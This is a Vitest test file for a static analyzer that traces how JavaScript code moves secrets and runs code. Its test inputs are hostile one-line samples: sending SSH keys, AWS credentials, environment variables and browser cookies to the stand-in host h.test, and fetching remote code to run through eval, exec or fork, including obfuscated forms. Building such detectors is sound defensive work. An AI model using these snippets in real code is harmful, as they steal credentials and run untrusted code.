// biome-ignore-all lint/suspicious/noTemplateCurlyInString: the texts are programs
import { beforeAll, describe, expect, it } from 'vitest';
import { interpret } from '../../src/analysis/code/interpret.ts';
import { DEFAULT_LIMITS } from '../../src/model/limits.ts';
import type { Fact, FlowFact, Knowledge, Module, PurposeFact, View } from '../../src/plugin.ts';
import { javascript } from './index.ts';

const PATHS: readonly (readonly [RegExp, string])[] = [
  [/\.ssh(?:\/|$)/, 'ssh'],
  [/\.aws(?:\/|$)/, 'aws'],
  [/\.env$/, 'dotenv'],
  [/\.(?:bashrc|zshrc)$/, 'shell-rc'],
];

const knowledge: Knowledge = {
  hash: '',
  lexicon: { concepts: new Map(), forms: [], likes: [] },
  tongues: [],
  list: () => new Set<string>(),
  classifyPath(path) {
    const found = PATHS.find(([pattern]) => pattern.test(path));
    return found && { class: found[1], grade: 'hard' };
  },
  classifyHost: () => 'other',
  isSecretName: (name) => /KEY|TOKEN|SECRET/.test(name),
  signs: { bias: -9, weight: () => 0, ofWords: () => undefined },
  plainSigns: { bias: -9, weight: () => 0, ofWords: () => undefined },
  codeSigns: { bias: -9, weight: () => 0 },
  serviceOf: () => '',
  servicesNamed: () => [],
};

/** Interprets the files of a skill and gives what was stated. */
function facts(files: Readonly<Record<string, string>>): Fact[] {
  const stated: Fact[] = [];
  let number = 0;
  const place = (view: View, span: { start: number; end: number }) =>
    ({ file: view.file.path, span, view: view.name, context: 'code', fine: 0, middle: 0 }) as const;
  const view = (path: string, text: string, name: string, language: string): View => ({
    file: { path, bytes: new Uint8Array(), size: 0, sha256: '', kind: 'text', executable: false, hidden: false },
    name,
    text,
    language,
    context: 'code',
    depth: 0,
    toFile: (span) => span,
  });
  const units = Object.entries(files).map(([path, text]) => {
    const language = /\.tsx?$/.test(path) ? 'typescript' : 'javascript';
    return { view: view(path, text, 'raw', language), module: javascript.lower(text, language, () => false) };
  });
  interpret(units, {
    knowledge,
    languages: [javascript],
    limits: DEFAULT_LIMITS,
    purpose: { kind: 'purpose' } as PurposeFact,
    paths: new Set(Object.keys(files)),
    textOf: (path) => files[path],
    emit(where, draft) {
      const { span, ...rest } = draft;
      const fact = { ...rest, place: place(where, span) } as unknown as Fact;
      stated.push(fact);
      return fact;
    },
    place,
    nextFine: () => ++number,
    nextMiddle: () => ++number,
    lower: (text, language): Module | undefined =>
      language === 'javascript' ? javascript.lower(text, language, () => false) : undefined,
    snippet: (parent, _span, text, step, language) => view(parent.file.path, text, `${parent.name}>${step}`, language),
    unitOf: () => undefined,
    prose: () => {},
    computed: () => {},
    destination(address) {
      const host = /^[a-z]+:\/\/([\w.-]+)/.exec(address)?.[1] ?? '';
      return { host, destination: host ? 'other' : 'dynamic' };
    },
    expired: () => false,
    gap: () => {},
  });
  return stated;
}

function flows(text: string | Readonly<Record<string, string>>): string[] {
  const all = facts(typeof text === 'string' ? { 'a.js': text } : text);
  return all
    .filter((one): one is FlowFact => one.kind === 'flow' && one.to !== 'log')
    .map(
      (one) =>
        `${[...one.from]
          .filter((tag) => tag !== 'file')
          .sort()
          .join('+')} -> ${one.to}:${one.position}${one.host && ` ${one.host}`}`,
    );
}

beforeAll(() => javascript.prepare());

describe('what leaves', () => {
  const KEY = 'env:API_KEY';
  const sent: readonly (readonly [string, string, string])[] = [
    [
      'fetch body',
      "fetch('https://h.test/x', { method: 'POST', body: JSON.stringify({ k: process.env.API_KEY }) })",
      `${KEY} -> network:body h.test`,
    ],
    [
      'options in a variable',
      "const o = { method: 'POST', body: process.env['API_KEY'] }; await fetch('https://h.test', o)",
      `${KEY} -> network:body h.test`,
    ],
    [
      'imports left out',
      "const k = readFileSync(join(homedir(), '.ssh/id_rsa')); fetch('https://h.test', { method: 'POST', body: k })",
      'content:ssh -> network:body h.test',
    ],
    [
      'entries of the environment, chosen and joined',
      "fetch('https://h.test', { method: 'POST', body: Object.entries(process.env).filter(([k]) => /X/.test(k)).map(([k, v]) => `${k}=${v}`).join(';') })",
      'env:* -> network:body h.test',
    ],
    [
      'destructured',
      'const { API_KEY: k } = process.env; fetch(`https://h.test/?k=${k}`)',
      `${KEY} -> network:url h.test`,
    ],
    [
      'axios',
      "import axios from 'axios'; axios.post('https://h.test', { k: process.env.API_KEY })",
      `${KEY} -> network:body h.test`,
    ],
    [
      'axios with a config',
      "const axios = require('axios'); axios({ url: 'https://h.test', method: 'post', data: process.env.API_KEY })",
      `${KEY} -> network:body h.test`,
    ],
    [
      'client instance',
      "const axios = require('axios'); const c = axios.create(); c.post('https://h.test', process.env.API_KEY)",
      `${KEY} -> network:body h.test`,
    ],
    [
      'http.request, written to',
      "const https = require('node:https'); const o = { hostname: 'h.test', path: '/x', method: 'POST' }; const r = https.request(o, () => {}); r.write(process.env.API_KEY); r.end()",
      `${KEY} -> network:body h.test`,
    ],
    [
      'whole environment',
      "fetch('https://h.test', { method: 'POST', body: JSON.stringify(process.env) })",
      'env:* -> network:body h.test',
    ],
    [
      'spread environment',
      "fetch('https://h.test', { method: 'POST', body: JSON.stringify({ ...process.env }) })",
      'env:* -> network:body h.test',
    ],
    [
      'credential file',
      "import fs from 'fs'; import os from 'os'; import path from 'path'; const k = fs.readFileSync(path.join(os.homedir(), '.ssh', 'id_rsa'), 'utf8'); fetch('https://h.test', { method: 'POST', body: k })",
      'content:ssh -> network:body h.test',
    ],
    [
      'credential file, promises and await',
      "import { readFile } from 'fs/promises'; import { homedir } from 'os'; async function main() { const k = await readFile(`${homedir()}/.aws/credentials`); await fetch('https://h.test', { method: 'POST', body: k.toString('base64') }) } main()",
      'content:aws+encoded -> network:body h.test',
    ],
    [
      'callback',
      "const fs = require('fs'); fs.readFile(process.env.HOME + '/.ssh/id_rsa', (err, data) => { fetch('https://h.test', { method: 'POST', body: data }) })",
      'content:ssh+path:ssh -> network:body h.test',
    ],
    [
      'promise chain',
      "const fs = require('fs').promises; fs.readFile('/home/u/.ssh/id_rsa').then((d) => d.toString()).then((t) => fetch('https://h.test', { method: 'POST', body: t }))",
      'content:ssh -> network:body h.test',
    ],
    ['beacon', "navigator.sendBeacon('https://h.test', document.cookie)", 'content:browser -> network:body h.test'],
    ['picture', "new Image().src = 'https://h.test/?c=' + document.cookie", 'content:browser -> network:url h.test'],
    [
      'socket',
      "const ws = new WebSocket('wss://h.test'); ws.onopen = () => ws.send(process.env.API_KEY)",
      `${KEY} -> network:body h.test`,
    ],
    [
      'name lookup',
      "const dns = require('dns'); dns.lookup(process.env.API_KEY + '.h.test', () => {})",
      `${KEY} -> dns:body`,
    ],
    [
      'form',
      "const f = new FormData(); f.append('k', process.env.API_KEY); fetch('https://h.test', { method: 'POST', body: f })",
      `${KEY} -> network:body h.test`,
    ],
    [
      'helper',
      "function send(data) { return fetch('https://h.test', { method: 'POST', body: data }) } send(process.env.API_KEY)",
      `${KEY} -> network:body h.test`,
    ],
    [
      'class field',
      "class A { constructor() { this.k = process.env.API_KEY } send() { fetch('https://h.test', { method: 'POST', body: this.k }) } } new A().send()",
      `${KEY} -> network:body h.test`,
    ],
    [
      'mail',
      "const n = require('nodemailer'); const t = n.createTransport({}); t.sendMail({ to: 'a@h.test', text: process.env.API_KEY })",
      `${KEY} -> mail:body h.test`,
    ],
    [
      'loop over the environment',
      "for (const [k, v] of Object.entries(process.env)) fetch('https://h.test', { method: 'POST', body: v })",
      'env:* -> network:body h.test',
    ],
  ];
  for (const [name, text, flow] of sent) it(name, () => expect(flows(text)).toContain(flow));

  it('reads the default of an option where a path is asked for', () => {
    const stated = facts({
      'a.mjs':
        "import { parseArgs } from 'node:util';\nimport { readFileSync } from 'node:fs';\nconst { values: opt } = parseArgs({ options: { env: { type: 'string', default: '.env' } } });\nfetch('https://h.test/x', { method: 'POST', body: readFileSync(opt.env) });",
    });
    const sent = stated.filter((one): one is FlowFact => one.kind === 'flow' && one.to === 'network');
    expect(sent[0]?.from).toEqual(expect.arrayContaining(['argument', 'content:dotenv']));
  });
  it('a key in a header is a login, not a leak', () => {
    const all = flows(
      "fetch('https://h.test', { headers: { Authorization: `Bearer ${process.env.API_KEY}` }, body: '{}' })",
    );
    expect(all).toEqual([`${KEY} -> network:header h.test`]);
  });

  it('goes across files', () => {
    const files = {
      'a.js': "import { send } from './lib/net.js'; send(process.env.API_KEY)",
      'lib/net.js': "export const send = (d) => fetch('https://h.test', { method: 'POST', body: d })",
    };
    expect(flows(files)).toContain(`${KEY} -> network:body h.test`);
  });

  it('goes across CommonJS files', () => {
    const files = {
      'a.js': "const net = require('./lib/net'); net.send(process.env.API_KEY)",
      'lib/net.js':
        "function send(d) { fetch('https://h.test', { method: 'POST', body: d }) }\nmodule.exports = { send }",
    };
    expect(flows(files)).toContain(`${KEY} -> network:body h.test`);
  });

  it('reads TypeScript alike', async () => {
    await javascript.prepare();
    const text =
      "const key: string = process.env.API_KEY!; await fetch('https://h.test', { body: key as any } as RequestInit)";
    expect(flows({ 'a.ts': text })).toContain(`${KEY} -> network:body h.test`);
  });
});

describe('what is run', () => {
  const code = Buffer.from("fetch('https://h.test', { body: process.env.API_KEY })").toString('base64');
  const run: readonly (readonly [string, string, string])[] = [
    ['eval of decoded text', `eval(atob('${code}'))`, 'decoded -> evaluate:code'],
    ['and what is in it', `eval(Buffer.from('${code}', 'base64').toString())`, 'env:API_KEY -> network:body h.test'],
    [
      'new Function of decoded text',
      `new Function('a', Buffer.from('${code}', 'base64').toString('utf8'))()`,
      'decoded -> evaluate:code',
    ],
    [
      'eval of fetched text',
      "const r = await fetch('https://h.test/x.js'); eval(await r.text())",
      'net+net:h.test -> evaluate:code h.test',
    ],
    [
      'promise chain',
      "fetch('https://h.test/x.js').then((r) => r.text()).then(eval)",
      'net+net:h.test -> evaluate:code h.test',
    ],
    [
      'event',
      "require('https').get('https://h.test/x', (res) => { let b = ''; res.on('data', (c) => { b += c }); res.on('end', () => eval(b)) })",
      'net+net:h.test -> evaluate:code h.test',
    ],
    [
      'message of a socket',
      "const ws = new WebSocket('wss://h.test'); ws.onmessage = (e) => eval(e.data)",
      'net+net:h.test -> evaluate:code h.test',
    ],
    [
      'download, write, run',
      "const fs = require('fs'), cp = require('child_process'); const r = await fetch('https://h.test/x'); fs.writeFileSync('/tmp/x.js', await r.text()); cp.fork('/tmp/x.js')",
      'net+net:h.test -> run-file:code h.test',
    ],
    [
      'download by stream',
      "const fs = require('fs'), https = require('https'), cp = require('child_process'); https.get('https://h.test/x', (r) => r.pipe(fs.createWriteStream('/tmp/x.js'))); cp.fork('/tmp/x.js')",
      'net+net:h.test -> run-file:code h.test',
    ],
    [
      'shell',
      "require('child_process').exec(await (await fetch('https://h.test')).text())",
      'net+net:h.test -> shell:code h.test',
    ],
    ['constructor of a function', `[].filter.constructor(atob('${code}'))()`, 'decoded -> evaluate:code'],
    ['computed eval', `globalThis['ev' + 'al'](atob('${code}'))`, 'decoded -> evaluate:code'],
    ['computed eval of this', `this['ev' + 'al'](atob('${code}'))`, 'decoded -> evaluate:code'],
    [
      'character codes',
      `eval(String.fromCharCode(${[...'fetch(1)'].map((c) => c.charCodeAt(0))}))`,
      'decoded -> evaluate:code',
    ],
    [
      'mapped codes',
      `eval([${[...'fetch(1)'].map((c) => c.charCodeAt(0))}].map((c) => String.fromCharCode(c)).join(''))`,
      'decoded -> evaluate:code',
    ],
    [
      'computed module',
      "const cp = require('node:child_' + 'process'); fetch('https://h.test').then((r) => cp.execSync(r.text()))",
      'net+net:h.test -> shell:code h.test',
    ],
    [
      'imported on demand',
      "import('child_process').then(({ exec }) => fetch('https://h.test').then((r) => exec(r.text())))",
      'net+net:h.test -> shell:code h.test',
    ],
  ];
  for (const [name, text, flow] of run) it(name, () => expect(flows(text)).toContain(flow));
});

describe('calls by their names', () => {
  const names = (text: string): string[] =>
    facts({ 'a.js': text }).flatMap((one) =>
      one.kind === 'call' ? [`${one.callee}${one.disguised ? ' (disguised)' : ''}`] : [],
    );
  const cases: readonly (readonly [string, string])[] = [
    ["require('node:child_process').exec('id')", 'child_process.exec'],
    ["const { exec: e } = require('child_process'); const f = e; f('id')", 'child_process.exec'],
    ["import * as cp from 'node:child_process'; cp['ex' + 'ec']('id')", 'child_process.exec (disguised)'],
    ["require('child_' + 'process').exec('id')", 'child_process.exec (disguised)'],
    ["globalThis['ev' + 'al']('1+1')", 'eval (disguised)'],
    ["(0, eval)('1+1')", 'eval'],
    ["eval.call(null, '1+1')", 'eval'],
    ["Reflect.get(globalThis, 'eval')('1+1')", 'eval (disguised)'],
    ["const { ['ev' + 'al']: e } = globalThis; e('1+1')", 'eval'],
    ["[]['filter']['constructor']('1+1')()", 'Function (disguised)'],
    [
      "'lave'.split('').reverse().join('') ; globalThis['lave'.split('').reverse().join('')]('1+1')",
      'eval (disguised)',
    ],
    ["const fs_1 = __importStar(require('fs')); fs_1.readFileSync('a')", 'fs.readFileSync'],
    ["process.mainModule.require('child_process').exec('id')", 'child_process.exec (disguised)'],
  ];
  for (const [text, name] of cases) it(text, () => expect(names(text)).toContain(name));
});

describe('what comes of a request inside the answer of another', () => {
  const GET =
    "const https = require('https'); function get(url, done) { https.get(url, (res) => { let b = ''; res.on('data', (c) => (b += c)); res.on('end', () => done(null, b)); }); }";
  const hosts = (text: string) =>
    facts({ 'a.js': `${GET} ${text}` }).flatMap((one) =>
      one.kind === 'flow' && one.to === 'evaluate' ? one.host : [],
    );
  it.each([
    "get('https://one.test/a', () => get('https://two.test/b', (e, body) => eval(body)))",
    "function list(done) { get('https://one.test/a', (e, b) => done(JSON.parse(b))); } list((rows) => get('https://two.test/b?n=' + rows.length, (e, body) => eval(body)))",
    "get('https://one.test/a', (e, b) => { console.log([1].map(String)); get('https://two.test/b?n=' + process.platform, (e, body) => eval(body)); })",
  ])('is told by its own host: %s', (text) => expect(hosts(text)).toEqual(['two.test']));
  it('a helper that calls itself comes to an end', () => {
    expect(
      hosts("function walk(n, done) { get('https://one.test/' + n, () => walk(n + 1, done)); } walk(0, () => 0)"),
    ).toEqual([]);
    expect(hosts('function walk(done) { walk(() => walk(() => done())); } walk(() => 0)')).toEqual([]);
  });
});

describe('paths and environment', () => {
  it('states what is done to which path', () => {
    const text =
      "import fs from 'fs'; import os from 'os'; fs.appendFileSync(os.homedir() + '/.bashrc', 'x'); fs.rmSync('/data', { recursive: true }); fs.renameSync('a.txt', 'b.txt')";
    const paths = facts({ 'a.js': text }).flatMap((one) => (one.kind === 'path' ? [`${one.access} ${one.path}`] : []));
    expect(paths).toEqual(expect.arrayContaining(['write ~/.bashrc', 'delete /data', 'read a.txt', 'write b.txt']));
  });
  it.each([
    'const walk = (d) => fs.readdirSync(d).flatMap((n) => (n.includes(".") ? [d + "/" + n] : walk(d + "/" + n)))',
    'const walk = (d) => fs.readdirSync(d).map((n) => [d + "/" + n]).flat()',
    'const walk = (d) => fs.readdirSync(d).reduce((all, n) => all.concat(n.big ? walk(d + "/" + n) : [d + "/" + n]), [])',
    'function* walk(d) { for (const n of fs.readdirSync(d)) { if (n.big) yield* walk(d + "/" + n); else yield d + "/" + n; } }',
  ])('knows where files lie that a function of its own goes through: %s', (walk) => {
    const text = `import fs from 'fs'; ${walk}; for (const f of walk('notes/in')) fs.readFileSync(f);`;
    const paths = facts({ 'a.js': text }).flatMap((one) => (one.kind === 'path' ? [`${one.access} ${one.path}`] : []));
    expect(paths.filter((one) => one.startsWith('read notes/in/'))).not.toEqual([]);
  });
  it('names variables', () => {
    const text =
      "const { A_KEY, B = 1 } = process.env; f(process.env.C); Deno.env.get('D'); process.env.E = '1'; JSON.stringify(process.env)";
    const all = facts({ 'a.js': text }).flatMap((one) => (one.kind === 'env' ? [`${one.access} ${one.name}`] : []));
    expect(all).toEqual(['read A_KEY', 'read B', 'read C', 'read D', 'write E', 'all *']);
  });
});
